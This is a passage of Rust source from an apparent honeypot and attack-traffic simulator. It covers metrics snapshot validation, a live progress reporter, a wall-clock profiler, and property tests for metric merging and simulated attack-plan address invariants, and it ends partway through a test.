        self.host.workers = 0;
        self.host.pool_hits = 0;
        self.host.pool_misses = 0;
        self.host.steals = 0;
        self.host.profile.zero_wall_clock();
        self.host.latency.clear();
    }

    /// Check this snapshot against the schema this build understands.
    pub fn validate(&self) -> Result<(), String> {
        if self.schema_version != SCHEMA_VERSION {
            return Err(format!(
                "schema version mismatch: snapshot has {}, this build expects {SCHEMA_VERSION}",
                self.schema_version
            ));
        }
        // Study snapshots carry one entry per shard; query-engine snapshots
        // carry none at all (there is no event loop behind them), so an
        // empty vector is also well-formed.
        if !self.per_shard_events.is_empty() && self.per_shard_events.len() != self.shards as usize
        {
            return Err(format!(
                "per_shard_events has {} entries for {} shards",
                self.per_shard_events.len(),
                self.shards
            ));
        }
        for (name, h) in &self.histograms {
            let bucket_total: u64 = h.buckets.iter().map(|&(_, n)| n).sum();
            if bucket_total != h.count {
                return Err(format!(
                    "histogram {name}: bucket counts sum to {bucket_total}, count is {}",
                    h.count
                ));
            }
        }
        Ok(())
    }

    /// Human-readable summary: the table `full_run` prints. Counters and
    /// gauges one per line; histograms with count / mean / p50 / p99 / max.
    pub fn render_summary(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!(
            "metrics (schema v{}, preset {}, seed {}, {} shards)\n",
            self.schema_version, self.preset, self.seed, self.shards
        ));
        if !self.counters.is_empty() {
            out.push_str("  counters:\n");
            for (name, v) in &self.counters {
                out.push_str(&format!("    {name:<44} {v:>14}\n"));
            }
        }
        if !self.gauges.is_empty() {
            out.push_str("  gauges (max):\n");
            for (name, v) in &self.gauges {
                out.push_str(&format!("    {name:<44} {v:>14}\n"));
            }
        }
        if !self.histograms.is_empty() {
            out.push_str("  histograms:\n");
            out.push_str(&format!(
                "    {:<44} {:>10} {:>10} {:>8} {:>8} {:>10}\n",
                "name", "count", "mean", "p50", "p99", "max"
            ));
            for (name, h) in &self.histograms {
                out.push_str(&format!(
                    "    {name:<44} {:>10} {:>10.1} {:>8} {:>8} {:>10}\n",
                    h.count,
                    h.mean(),
                    approx_quantile(h, 0.50),
                    approx_quantile(h, 0.99),
                    h.max
                ));
            }
        }
        if !self.per_shard_events.is_empty() {
            let total: u64 = self.per_shard_events.iter().sum();
            let max = self.per_shard_events.iter().copied().max().unwrap_or(0);
            out.push_str(&format!(
                "  shard events: total {total}, max shard {max}, {} shards\n",
                self.per_shard_events.len()
            ));
        }
        out
    }
}

/// Quantile over a serialized histogram (same semantics as
/// [`Histogram::quantile`]).
fn approx_quantile(h: &HistogramSnapshot, q: f64) -> u64 {
    if h.count == 0 {
        return 0;
    }
    let rank = ((q.clamp(0.0, 1.0) * h.count as f64).ceil() as u64).max(1);
    let mut seen = 0u64;
    for &(lb, n) in &h.buckets {
        seen += n;
        if seen >= rank {
            return lb;
        }
    }
    h.max
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_snapshot() -> MetricsSnapshot {
        let mut reg = MetricRegistry::new();
        reg.count("scan.probe.sent", "telnet", 100);
        reg.count("net.events_processed", "", 12345);
        reg.gauge_max("net.conns_live", "", 17);
        for v in [40u64, 60, 600, 1500] {
            reg.observe("net.udp_bytes", "", v);
        }
        let mut snap = MetricsSnapshot::from_registry(7, 16, "quick", &reg, vec![1; 16]);
        snap.host.workers = 8;
        snap.host.pool_hits = 999;
        snap.host.steals = 3;
        snap.host.profile = ProfileNode::leaf("study", std::time::Duration::from_millis(3));
        let mut lat = Histogram::default();
        lat.record(1_500);
        lat.record(90_000);
        snap.host
            .latency
            .insert("query.host".into(), HistogramSnapshot::from_histogram(&lat));
        snap
    }

    #[test]
    fn schema_roundtrip_is_byte_stable() {
        let snap = sample_snapshot();
        let json = serde_json::to_string(&snap).unwrap();
        let back: MetricsSnapshot = serde_json::from_str(&json).unwrap();
        assert_eq!(snap, back);
        // Serializing the round-tripped value reproduces the exact bytes.
        assert_eq!(json, serde_json::to_string(&back).unwrap());
        back.validate().expect("round-tripped snapshot validates");
    }

    #[test]
    fn validate_rejects_wrong_version() {
        let mut snap = sample_snapshot();
        snap.schema_version = SCHEMA_VERSION + 1;
        assert!(snap.validate().is_err());
    }

    #[test]
    fn validate_rejects_inconsistent_histogram() {
        let mut snap = sample_snapshot();
        snap.histograms.get_mut("net.udp_bytes").unwrap().count += 1;
        assert!(snap.validate().is_err());
    }

    #[test]
    fn zeroing_blanks_only_host_section() {
        let mut snap = sample_snapshot();
        snap.zero_wall_clock();
        assert_eq!(snap.host.workers, 0);
        assert_eq!(snap.host.pool_hits, 0);
        assert_eq!(snap.host.steals, 0);
        assert!(snap.host.latency.is_empty());
        assert_eq!(snap.host.profile.wall_ns, 0);
        assert_eq!(snap.host.profile.name, "study", "structure survives");
        assert_eq!(snap.counters["scan.probe.sent{telnet}"], 100);
        assert_eq!(snap.preset, "quick", "preset is deterministic identity");
    }

    #[test]
    fn empty_per_shard_events_is_valid() {
        let mut snap = sample_snapshot();
        snap.per_shard_events.clear();
        snap.validate().expect("query-engine snapshots have no per-shard events");
        snap.per_shard_events = vec![1; 3];
        assert!(snap.validate().is_err(), "partial vectors still rejected");
    }

    #[test]
    fn summary_mentions_everything() {
        let s = sample_snapshot().render_summary();
        assert!(s.contains("scan.probe.sent{telnet}"));
        assert!(s.contains("net.conns_live"));
        assert!(s.contains("net.udp_bytes"));
        assert!(s.contains("shard events"));
    }
}
