//! Live telemetry: lock-free per-shard progress cells sampled by a
//! dedicated reporter thread.
//!
//! The recording side is wait-free and effectively free: each shard owns
//! one [`ProgressCell`] (a handful of `AtomicU64`s) and publishes into it
//! from coarse checkpoints only — the simulator's sim-hour rollover, a host
//! materialization, a shed connection — never per event. The sampling side
//! (heartbeat lines on stderr, the optional `--live-out` JSONL stream)
//! reads the wall clock and is therefore volatile by construction: it is
//! quarantined from the determinism contract exactly like the snapshot's
//! `host` section, and it never writes back into any deterministic
//! artifact.
//!
//! Shard threads find their cell through a thread-local installed by the
//! study loop ([`set_cell`]), mirroring how [`crate::install`] routes
//! metric recording: the instrumented crates call free functions
//! ([`tick`], [`spawned`], [`shed`]) that no-op when no cell is installed,
//! so benches and tests run un-instrumented.

use std::cell::RefCell;
use std::io::Write;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Condvar, Mutex};
use std::time::{Duration, Instant};

/// Default interval between reporter samples.
pub const DEFAULT_HEARTBEAT_MS: u64 = 500;

/// Schema version stamped into every `--live-out` line.
pub const LIVE_SCHEMA_VERSION: u32 = 1;

/// One shard's progress, published wait-free from the shard's thread and
/// read (racily, which is fine — every field is monotone) by the reporter.
#[derive(Debug, Default)]
pub struct ProgressCell {
    /// Simulated milliseconds this shard has reached.
    pub sim_ms: AtomicU64,
    /// Events the shard's fabric has processed.
    pub events: AtomicU64,
    /// Implicit hosts materialized by first touch.
    pub hosts_spawned: AtomicU64,
    /// Connections shed by deployed-honeypot gates.
    pub conns_shed: AtomicU64,
    /// 1 once the shard has finished.
    pub done: AtomicU64,
}

/// Cross-shard live progress: one cell per shard plus run-wide counters.
/// Shared as `Arc<LiveProgress>` between the study loop, the shard
/// threads, and the reporter.
#[derive(Debug)]
pub struct LiveProgress {
    pub cells: Vec<Arc<ProgressCell>>,
    /// Shards stolen between workers (from the scheduler).
    pub steals: AtomicU64,
    /// Shards that have run to completion.
    pub shards_done: AtomicU64,
    /// Sim-time each shard must reach (the study end), for progress %.
    pub target_sim_ms: u64,
}

/// One volatile sample of the whole run, folded over every cell.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct LiveSample {
    /// Sum over shards of `min(sim_ms, target)`.
    pub sim_ms_total: u64,
    pub events: u64,
    pub hosts_spawned: u64,
    pub conns_shed: u64,
    pub steals: u64,
    pub shards_done: u64,
}

impl LiveProgress {
    pub fn new(shards: u32, target_sim_ms: u64) -> LiveProgress {
        LiveProgress {
            cells: (0..shards).map(|_| Arc::new(ProgressCell::default())).collect(),
            steals: AtomicU64::new(0),
            shards_done: AtomicU64::new(0),
            target_sim_ms: target_sim_ms.max(1),
        }
    }

    /// Fold every cell into one sample. Racy reads of monotone counters:
    /// the sample is a consistent-enough lower bound, never an invariant.
    pub fn sample(&self) -> LiveSample {
        let mut s = LiveSample {
            steals: self.steals.load(Ordering::Relaxed),
            shards_done: self.shards_done.load(Ordering::Relaxed),
            ..LiveSample::default()
        };
        for cell in &self.cells {
            s.sim_ms_total += cell.sim_ms.load(Ordering::Relaxed).min(self.target_sim_ms);
            s.events += cell.events.load(Ordering::Relaxed);
            s.hosts_spawned += cell.hosts_spawned.load(Ordering::Relaxed);
            s.conns_shed += cell.conns_shed.load(Ordering::Relaxed);
        }
        s
    }

    /// Fraction of total simulated time completed, in `[0, 1]`.
    pub fn fraction(&self, s: &LiveSample) -> f64 {
        s.sim_ms_total as f64 / (self.target_sim_ms as f64 * self.cells.len().max(1) as f64)
    }

    /// Mark a shard finished (clamps its sim-time to the target).
    pub fn mark_done(&self, shard: u32) {
        if let Some(cell) = self.cells.get(shard as usize) {
            cell.sim_ms.store(self.target_sim_ms, Ordering::Relaxed);
            if cell.done.swap(1, Ordering::Relaxed) == 0 {
                self.shards_done.fetch_add(1, Ordering::Relaxed);
            }
        }
    }
}

thread_local! {
    /// The progress cell `tick`/`spawned`/`shed` publish into, if any.
    static CELL: RefCell<Option<Arc<ProgressCell>>> = const { RefCell::new(None) };
}

/// Install (or clear) this thread's progress cell. The study loop installs
/// a shard's cell for the duration of that shard's simulation.
pub fn set_cell(cell: Option<Arc<ProgressCell>>) {
    CELL.with(|c| *c.borrow_mut() = cell);
}

#[inline]
fn with_cell(f: impl FnOnce(&ProgressCell)) {
    CELL.with(|c| {
        if let Ok(slot) = c.try_borrow() {
            if let Some(cell) = slot.as_ref() {
                f(cell);
            }
        }
    });
}

/// Publish the shard's sim-time and event count. Called at coarse
/// checkpoints (the simulator's sim-hour rollover), never per event.
#[inline]
pub fn tick(sim_ms: u64, events: u64) {
    with_cell(|c| {
        c.sim_ms.store(sim_ms, Ordering::Relaxed);
        c.events.store(events, Ordering::Relaxed);
    });
}

/// Count `n` implicit hosts materialized on this shard.
#[inline]
pub fn spawned(n: u64) {
    with_cell(|c| {
        c.hosts_spawned.fetch_add(n, Ordering::Relaxed);
    });
}

/// Count `n` connections shed by a honeypot gate on this shard.
#[inline]
pub fn shed(n: u64) {
    with_cell(|c| {
        c.conns_shed.fetch_add(n, Ordering::Relaxed);
    });
}

/// Reporter configuration (resolved from `ObsConfig` + CLI by the caller).
#[derive(Debug, Clone, Default)]
pub struct ReporterOptions {
    /// Print heartbeat lines to stderr.
    pub heartbeat: bool,
    /// Sample interval in milliseconds (0 = [`DEFAULT_HEARTBEAT_MS`]).
    pub interval_ms: u64,
    /// Append wall-clock-stamped JSONL samples to this file.
    pub live_out: Option<std::path::PathBuf>,
    /// Preset name, echoed into the live stream header for provenance.
    pub preset: String,
    /// Shard count, ditto.
    pub shards: u32,
}

/// A running reporter thread. [`Reporter::stop`] (or drop) emits one final
/// sample and joins the thread.
#[derive(Debug)]
pub struct Reporter {
    /// Stop flag + condvar: the reporter parks on the condvar between
    /// samples, so it costs *zero* wakeups mid-interval (a sliced sleep
    /// would preempt the simulation ~50×/s on a single-core host) while
    /// `stop()` still returns immediately.
    stop: Arc<(Mutex<bool>, Condvar)>,
    handle: Option<std::thread::JoinHandle<()>>,
}

impl Reporter {
    /// Spawn the sampling thread. Never panics the run: an unwritable
    /// `live_out` path degrades to heartbeat-only with a warning.
    pub fn spawn(progress: Arc<LiveProgress>, opts: ReporterOptions) -> Reporter {
        let stop = Arc::new((Mutex::new(false), Condvar::new()));
        let flag = Arc::clone(&stop);
        let handle = std::thread::Builder::new()
            .name("ofh-live".into())
            .spawn(move || run_reporter(&progress, &opts, &flag))
            .expect("spawn live reporter thread");
        Reporter { stop, handle: Some(handle) }
    }

    /// Signal the reporter to emit a final sample and exit, then join it.
    pub fn stop(mut self) {
        self.shutdown();
    }

    fn shutdown(&mut self) {
        let (lock, cv) = &*self.stop;
        *lock.lock().unwrap() = true;
        cv.notify_all();
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

impl Drop for Reporter {
    fn drop(&mut self) {
        self.shutdown();
    }
}

fn run_reporter(progress: &LiveProgress, opts: &ReporterOptions, stop: &(Mutex<bool>, Condvar)) {
    let interval = Duration::from_millis(if opts.interval_ms == 0 {
        DEFAULT_HEARTBEAT_MS
    } else {
        opts.interval_ms
    });
    let start = Instant::now();
    let mut out = opts.live_out.as_ref().and_then(|path| {
        match std::fs::File::create(path) {
            Ok(f) => Some(std::io::BufWriter::new(f)),
            Err(e) => {
                eprintln!("[live] cannot write {}: {e}", path.display());
                None
            }
        }
    });
    if let Some(f) = &mut out {
        let _ = writeln!(
            f,
            "{{\"v\":{LIVE_SCHEMA_VERSION},\"kind\":\"live.header\",\"preset\":\"{}\",\"shards\":{},\"target_sim_ms\":{}}}",
            opts.preset, opts.shards, progress.target_sim_ms
        );
    }
    let (stop_lock, stop_cv) = stop;
    let mut prev = progress.sample();
    let mut prev_at = start;
    loop {
        let stopping = *stop_lock.lock().unwrap();
        let now = Instant::now();
        let s = progress.sample();
        let dt = now.duration_since(prev_at).as_secs_f64().max(1e-9);
        let events_per_s = (s.events.saturating_sub(prev.events)) as f64 / dt;
        let wall_ms = now.duration_since(start).as_millis() as u64;
        let pct = progress.fraction(&s) * 100.0;
        let eta_s = eta_seconds(progress, &s, now.duration_since(start));
        if opts.heartbeat {
            eprintln!("{}", heartbeat_line(progress, &s, pct, events_per_s, eta_s));
        }
        if let Some(f) = &mut out {
            let _ = writeln!(
                f,
                "{{\"v\":{LIVE_SCHEMA_VERSION},\"kind\":\"live.sample\",\"wall_ms\":{wall_ms},\
                 \"pct\":{pct:.1},\"sim_ms\":{},\"events\":{},\"events_per_s\":{:.0},\
                 \"hosts_spawned\":{},\"conns_shed\":{},\"steals\":{},\"shards_done\":{}}}",
                s.sim_ms_total,
                s.events,
                events_per_s,
                s.hosts_spawned,
                s.conns_shed,
                s.steals,
                s.shards_done,
            );
        }
        if stopping {
            break;
        }
        prev = s;
        prev_at = now;
        // Park on the condvar for the whole interval: no intermediate
        // wakeups, and stop() interrupts the wait immediately (a
        // quick-preset run is shorter than one sample).
        let guard = stop_lock.lock().unwrap();
        if !*guard {
            let _ = stop_cv.wait_timeout(guard, interval);
        }
    }
    if let Some(f) = &mut out {
        let _ = f.flush();
    }
}

/// Estimated seconds to completion from overall sim-time throughput
/// (`None` until any progress is visible).
fn eta_seconds(progress: &LiveProgress, s: &LiveSample, elapsed: Duration) -> Option<f64> {
    let total = progress.target_sim_ms as f64 * progress.cells.len().max(1) as f64;
    let done = s.sim_ms_total as f64;
    if done <= 0.0 || elapsed.as_secs_f64() <= 0.0 {
        return None;
    }
    let rate = done / elapsed.as_secs_f64(); // sim-ms per wall-second
    Some(((total - done) / rate).max(0.0))
}

/// Render a count like `1.23M` / `45.6k` / `789`.
pub fn human(n: u64) -> String {
    match n {
        0..=9_999 => n.to_string(),
        10_000..=999_999 => format!("{:.1}k", n as f64 / 1e3),
        1_000_000..=999_999_999 => format!("{:.2}M", n as f64 / 1e6),
        _ => format!("{:.2}G", n as f64 / 1e9),
    }
}

fn heartbeat_line(
    progress: &LiveProgress,
    s: &LiveSample,
    pct: f64,
    events_per_s: f64,
    eta_s: Option<f64>,
) -> String {
    let eta = match eta_s {
        Some(t) if t >= 1.0 => format!("{t:.0}s"),
        Some(_) => "<1s".into(),
        None => "--".into(),
    };
    format!(
        "[live] {pct:5.1}% | {} ev ({}/s) | {} hosts | {} shed | {} steals | {}/{} shards | eta {eta}",
        human(s.events),
        human(events_per_s as u64),
        human(s.hosts_spawned),
        human(s.conns_shed),
        human(s.steals),
        s.shards_done,
        progress.cells.len(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn free_functions_noop_without_cell() {
        tick(5, 10);
        spawned(2);
        shed(1);
        // Nothing installed: nothing to observe, and no panic.
    }

    #[test]
    fn cell_publishes_through_thread_local() {
        let progress = LiveProgress::new(2, 1_000);
        set_cell(Some(Arc::clone(&progress.cells[1])));
        tick(400, 77);
        spawned(3);
        shed(2);
        set_cell(None);
        tick(999_999, 1); // no cell installed anymore: discarded
        let s = progress.sample();
        assert_eq!(s.sim_ms_total, 400);
        assert_eq!(s.events, 77);
        assert_eq!(s.hosts_spawned, 3);
        assert_eq!(s.conns_shed, 2);
        assert_eq!(s.shards_done, 0);
    }

    #[test]
    fn sample_clamps_to_target_and_marks_done() {
        let progress = LiveProgress::new(2, 1_000);
        progress.cells[0].sim_ms.store(5_000, Ordering::Relaxed);
        let s = progress.sample();
        assert_eq!(s.sim_ms_total, 1_000, "per-shard sim-time clamps to target");
        assert!((progress.fraction(&s) - 0.5).abs() < 1e-9);
        progress.mark_done(0);
        progress.mark_done(0); // idempotent
        assert_eq!(progress.shards_done.load(Ordering::Relaxed), 1);
    }

    #[test]
    fn human_counts() {
        assert_eq!(human(999), "999");
        assert_eq!(human(45_600), "45.6k");
        assert_eq!(human(1_230_000), "1.23M");
    }

    #[test]
    fn reporter_writes_header_and_samples() {
        let dir = std::env::temp_dir().join("ofh_live_reporter_test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("live.jsonl");
        let progress = Arc::new(LiveProgress::new(4, 1_000));
        progress.cells[0].sim_ms.store(250, Ordering::Relaxed);
        progress.cells[0].events.store(123, Ordering::Relaxed);
        let reporter = Reporter::spawn(
            Arc::clone(&progress),
            ReporterOptions {
                heartbeat: false,
                interval_ms: 10,
                live_out: Some(path.clone()),
                preset: "quick".into(),
                shards: 4,
            },
        );
        std::thread::sleep(Duration::from_millis(40));
        reporter.stop();
        let text = std::fs::read_to_string(&path).unwrap();
        let mut lines = text.lines();
        let header = lines.next().expect("header line");
        assert!(header.contains("\"live.header\""));
        assert!(header.contains("\"preset\":\"quick\""));
        assert!(header.contains("\"shards\":4"));
        let sample = lines.next().expect("at least one sample");
        assert!(sample.contains("\"live.sample\""));
        assert!(sample.contains("\"events\":123"));
        std::fs::remove_file(&path).ok();
    }

    #[test]
    fn heartbeat_line_shape() {
        let progress = LiveProgress::new(8, 100);
        let mut s = progress.sample();
        s.events = 1_230_000;
        let line = heartbeat_line(&progress, &s, 42.5, 250_000.0, Some(38.2));
        assert!(line.starts_with("[live]"));
        assert!(line.contains("42.5%"));
        assert!(line.contains("1.23M ev"));
        assert!(line.contains("eta 38s"));
        let no_eta = heartbeat_line(&progress, &s, 0.0, 0.0, None);
        assert!(no_eta.contains("eta --"));
    }
}
