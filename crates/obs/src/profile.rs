//! Self-profiling: a hierarchical wall-clock profile of the pipeline,
//! stage → shard → phase.
//!
//! The profile distinguishes two durations per node:
//!
//! * **`cpu_ns`** — time spent *working* on the node, summed across every
//!   thread that contributed. For a stage executed by N workers this can
//!   exceed the elapsed time by up to a factor of N.
//! * **`wall_ns`** — elapsed time as one observer would measure it. For a
//!   parallel stage this is measured once at the coordinator; for an
//!   aggregate over shards it is the maximum contribution (the critical
//!   path).
//!
//! This split is what fixes the old `StageTimings` double-reporting: the
//! per-shard clocks still sum (into `cpu_ns`) but no longer masquerade as
//! elapsed time.
//!
//! Profile values are wall-clock measurements and therefore the *one*
//! deliberately nondeterministic part of the observability layer; the
//! snapshot's determinism test zeroes them via [`ProfileNode::zero_wall_clock`].

use serde::{Deserialize, Serialize};

/// One node of the profile tree.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct ProfileNode {
    pub name: String,
    /// Elapsed nanoseconds (coordinator view / critical path).
    pub wall_ns: u64,
    /// Worked nanoseconds, summed over contributing threads.
    pub cpu_ns: u64,
    pub children: Vec<ProfileNode>,
}

impl ProfileNode {
    pub fn new(name: impl Into<String>) -> ProfileNode {
        ProfileNode {
            name: name.into(),
            wall_ns: 0,
            cpu_ns: 0,
            children: Vec::new(),
        }
    }

    /// A leaf measured on a single thread: wall and cpu coincide.
    pub fn leaf(name: impl Into<String>, elapsed: std::time::Duration) -> ProfileNode {
        let ns = elapsed.as_nanos() as u64;
        ProfileNode {
            name: name.into(),
            wall_ns: ns,
            cpu_ns: ns,
            children: Vec::new(),
        }
    }

    /// Append a child and fold its cpu into this node's cpu.
    pub fn push_child(&mut self, child: ProfileNode) {
        self.cpu_ns += child.cpu_ns;
        self.children.push(child);
    }

    /// Find a direct child by name.
    pub fn child(&self, name: &str) -> Option<&ProfileNode> {
        self.children.iter().find(|c| c.name == name)
    }

    /// Zero every duration in the subtree, keeping the structure (node
    /// names, order, arity). Used by determinism tests: two runs must agree
    /// on everything but the clocks.
    pub fn zero_wall_clock(&mut self) {
        self.wall_ns = 0;
        self.cpu_ns = 0;
        for c in &mut self.children {
            c.zero_wall_clock();
        }
    }

    /// Render the subtree as an indented text table, cut off below
    /// `max_depth` (0 = just this node).
    pub fn render(&self, max_depth: usize) -> String {
        let mut out = String::new();
        self.render_into(&mut out, 0, max_depth);
        out
    }

    fn render_into(&self, out: &mut String, depth: usize, max_depth: usize) {
        let indent = "  ".repeat(depth);
        let label = format!("{indent}{}", self.name);
        out.push_str(&format!(
            "{label:<28} wall {:>9} | cpu {:>9}\n",
            fmt_ns(self.wall_ns),
            fmt_ns(self.cpu_ns)
        ));
        if depth < max_depth {
            for c in &self.children {
                c.render_into(out, depth + 1, max_depth);
            }
        }
    }
}

/// `1234567890ns` → `"1.23s"`, `"12.3ms"`, …
fn fmt_ns(ns: u64) -> String {
    if ns >= 1_000_000_000 {
        format!("{:.2}s", ns as f64 / 1e9)
    } else if ns >= 1_000_000 {
        format!("{:.1}ms", ns as f64 / 1e6)
    } else if ns >= 1_000 {
        format!("{:.1}us", ns as f64 / 1e3)
    } else {
        format!("{ns}ns")
    }
}

/// Scoped wall-clock stopwatch for building [`ProfileNode`] leaves.
#[derive(Debug)]
pub struct Stopwatch(std::time::Instant);

impl Stopwatch {
    pub fn start() -> Stopwatch {
        Stopwatch(std::time::Instant::now())
    }

    pub fn elapsed(&self) -> std::time::Duration {
        self.0.elapsed()
    }

    /// Stop and produce a leaf node.
    pub fn leaf(self, name: impl Into<String>) -> ProfileNode {
        ProfileNode::leaf(name, self.0.elapsed())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    #[test]
    fn push_child_accumulates_cpu() {
        let mut root = ProfileNode::new("study");
        root.wall_ns = 100;
        root.push_child(ProfileNode::leaf("a", Duration::from_nanos(40)));
        root.push_child(ProfileNode::leaf("b", Duration::from_nanos(70)));
        assert_eq!(root.cpu_ns, 110, "children cpu sums past the wall clock");
        assert_eq!(root.wall_ns, 100);
        assert_eq!(root.child("b").unwrap().cpu_ns, 70);
    }

    #[test]
    fn zeroing_keeps_structure() {
        let mut root = ProfileNode::new("root");
        root.push_child(ProfileNode::leaf("x", Duration::from_millis(5)));
        root.zero_wall_clock();
        assert_eq!(root.cpu_ns, 0);
        assert_eq!(root.children.len(), 1);
        assert_eq!(root.children[0].name, "x");
        assert_eq!(root.children[0].wall_ns, 0);
    }

    #[test]
    fn render_depth_limits() {
        let mut root = ProfileNode::new("root");
        root.push_child(ProfileNode::leaf("child", Duration::from_micros(3)));
        let shallow = root.render(0);
        assert!(shallow.contains("root") && !shallow.contains("child"));
        let deep = root.render(2);
        assert!(deep.contains("child"));
        assert!(deep.contains("3.0us"));
    }

    #[test]
    fn profile_serde_roundtrip() {
        let mut root = ProfileNode::new("root");
        root.wall_ns = 42;
        root.push_child(ProfileNode::leaf("x", Duration::from_nanos(7)));
        let json = serde_json::to_string(&root).unwrap();
        let back: ProfileNode = serde_json::from_str(&json).unwrap();
        assert_eq!(root, back);
    }
}
