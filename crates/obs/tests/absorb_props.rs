//! Merge-algebra properties of the metric fold.
//!
//! The whole determinism story of the merged snapshot rests on one claim:
//! folding per-shard registries is **commutative and associative**, so the
//! merged metrics depend only on the *set* of shard registries, never on
//! worker scheduling or merge order. These properties pin that claim for
//! random inputs — histograms first (the only non-trivial reducer), then
//! whole registries.

use ofh_obs::{Histogram, MetricRegistry, MetricsSnapshot};
use proptest::prelude::*;

fn hist_of(vals: &[u64]) -> Histogram {
    let mut h = Histogram::default();
    for &v in vals {
        h.record(v);
    }
    h
}

/// Values spanning the interesting bucket regimes: exact unit buckets,
/// log-linear buckets, and the saturation edge.
fn values() -> impl Strategy<Value = Vec<u64>> {
    prop::collection::vec(
        prop_oneof![
            0u64..16,
            16u64..4096,
            any::<u64>(),
            Just(u64::MAX),
        ],
        0..64,
    )
}

/// Registries keyed over a tiny static namespace so merges actually collide.
fn registry_of(ops: &[(u8, u64)]) -> MetricRegistry {
    const NAMES: [&str; 3] = ["a", "b", "c"];
    const LABELS: [&str; 2] = ["", "l"];
    let mut r = MetricRegistry::new();
    for &(sel, v) in ops {
        let name = NAMES[(sel % 3) as usize];
        let label = LABELS[((sel / 3) % 2) as usize];
        match (sel / 6) % 3 {
            0 => r.count(name, label, v % 1_000),
            1 => r.gauge_max(name, label, v),
            _ => r.observe(name, label, v),
        }
    }
    r
}

/// Canonical, comparable view of a registry (sorted maps, serializable).
fn canon(r: &MetricRegistry) -> String {
    serde_json::to_string(&MetricsSnapshot::from_registry(0, 1, "test", r, vec![0]))
        .expect("snapshot serializes")
}

proptest! {
    #[test]
    fn histogram_absorb_is_commutative(a in values(), b in values()) {
        let (ha, hb) = (hist_of(&a), hist_of(&b));
        let mut ab = ha.clone();
        ab.absorb(&hb);
        let mut ba = hb.clone();
        ba.absorb(&ha);
        prop_assert_eq!(ab, ba);
    }

    #[test]
    fn histogram_absorb_is_associative(a in values(), b in values(), c in values()) {
        let (ha, hb, hc) = (hist_of(&a), hist_of(&b), hist_of(&c));
        // (a + b) + c
        let mut left = ha.clone();
        left.absorb(&hb);
        left.absorb(&hc);
        // a + (b + c)
        let mut bc = hb.clone();
        bc.absorb(&hc);
        let mut right = ha.clone();
        right.absorb(&bc);
        prop_assert_eq!(left, right);
    }

    #[test]
    fn histogram_absorb_matches_concatenated_recording(a in values(), b in values()) {
        // Recording a ++ b into one histogram equals recording a and b
        // separately and merging — the fold loses nothing.
        let mut merged = hist_of(&a);
        merged.absorb(&hist_of(&b));
        let concat: Vec<u64> = a.iter().chain(b.iter()).copied().collect();
        prop_assert_eq!(merged, hist_of(&concat));
    }

    #[test]
    fn registry_fold_is_order_independent(
        ops in prop::collection::vec(
            prop::collection::vec((any::<u8>(), any::<u64>()), 0..24),
            1..6,
        ),
        order in any::<u64>(),
    ) {
        // Fold the same shard registries in identity order and in a
        // pseudo-random permutation; the merged snapshot must not notice.
        let shards: Vec<MetricRegistry> = ops.iter().map(|o| registry_of(o)).collect();
        let mut forward = MetricRegistry::new();
        for r in &shards {
            forward.absorb(r);
        }
        let mut indices: Vec<usize> = (0..shards.len()).collect();
        // Fisher–Yates driven by the proptest-supplied seed.
        let mut state = order | 1;
        for i in (1..indices.len()).rev() {
            state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            indices.swap(i, (state % (i as u64 + 1)) as usize);
        }
        let mut shuffled = MetricRegistry::new();
        for &i in &indices {
            shuffled.absorb(&shards[i]);
        }
        prop_assert_eq!(canon(&forward), canon(&shuffled));
    }

    #[test]
    fn registry_fold_is_associative(
        a in prop::collection::vec((any::<u8>(), any::<u64>()), 0..24),
        b in prop::collection::vec((any::<u8>(), any::<u64>()), 0..24),
        c in prop::collection::vec((any::<u8>(), any::<u64>()), 0..24),
    ) {
        let (ra, rb, rc) = (registry_of(&a), registry_of(&b), registry_of(&c));
        let mut left = MetricRegistry::new();
        left.absorb(&ra);
        left.absorb(&rb);
        left.absorb(&rc);
        let mut bc = rb.clone();
        bc.absorb(&rc);
        let mut right = ra.clone();
        right.absorb(&bc);
        prop_assert_eq!(canon(&left), canon(&right));
    }
}
