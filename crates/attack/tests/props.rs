//! Property tests for the attack plan: structural invariants over arbitrary
//! seeds and scales.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use ofh_attack::plan::{AttackPlan, HoneypotSet, PlanConfig};
use ofh_devices::population::{PopulationBuilder, PopulationSpec};
use ofh_devices::Universe;
use ofh_net::{SimDuration, SimTime};
use proptest::prelude::*;

fn build(seed: u64, hp_scale_pow: u32) -> (PlanConfig, AttackPlan) {
    let universe = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 18);
    let population = PopulationBuilder::new(PopulationSpec {
        universe,
        scale: 8_192,
        seed,
    })
    .build();
    let cfg = PlanConfig {
        seed,
        hp_scale: 1u64 << hp_scale_pow,
        infected_scale: 1_024,
        universe,
        month_start: SimTime::ZERO + SimDuration::from_days(31),
        month_days: 30,
        honeypots: HoneypotSet::in_lab(&universe),
    };
    let plan = AttackPlan::build(&cfg, &population);
    (cfg, plan)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    /// Actor addresses never collide with each other, with the honeypot lab,
    /// or with the population/dark space.
    #[test]
    fn actor_addresses_disjoint(seed in any::<u64>(), hp in 5u32..9) {
        let (cfg, plan) = build(seed, hp);
        let attacker_space = cfg.universe.attacker_space();
        let mut seen: BTreeSet<Ipv4Addr> = BTreeSet::new();
        for actor in &plan.actors {
            prop_assert!(seen.insert(actor.addr), "duplicate actor {}", actor.addr);
            prop_assert!(attacker_space.contains(actor.addr));
            prop_assert!(!cfg.universe.dark_space().contains(actor.addr));
            prop_assert!(!cfg.universe.honeypot_lab().contains(actor.addr));
        }
    }

    /// Every task fires inside the measurement month and targets either the
    /// lab or the dark space — never the device population (generic actors
    /// don't attack devices; only infected devices originate there).
    #[test]
    fn tasks_bounded_and_targeted(seed in any::<u64>(), hp in 5u32..9) {
        let (cfg, plan) = build(seed, hp);
        let end = cfg.month_start + SimDuration::from_days(cfg.month_days + 1);
        let lab = cfg.universe.honeypot_lab();
